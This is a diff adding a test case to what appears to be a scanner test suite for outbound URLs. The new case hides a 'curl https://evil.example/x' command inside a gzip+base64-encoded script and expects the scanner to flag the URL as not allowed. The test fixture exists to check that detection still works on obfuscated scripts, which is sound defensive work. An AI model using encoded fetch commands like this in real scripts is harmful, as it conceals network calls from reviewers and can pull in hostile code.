@@ -64,6 +64,17 @@ const CASES: readonly (readonly [
     ],
   ]),
   [
+    'a script that is compressed',
+    // curl https://evil.example/x
+    edit(
+      script(),
+      '      data: |\n        #!/bin/bash\n',
+      '      encoding: gz+b64\n      data: H4sIAAAAAAACA1NW1E/KzNMvzuBKLi3KUcgoKSkottLXTy3LzNFLrUjMLchJ1a9QqFEAKgAAZKvMOSsAAAA=\n',
+    ),
+    ['https://mirror.example.com/'],
+    [`OSM0653 ${DATA} (line 2) loads the URL https://evil.example/x, which checks.outbound.allow does not contain`],
+  ],
+  [
     'messages and comments',
     script(
       'curl https://mirror.example.com/x # from https://a.example.com',
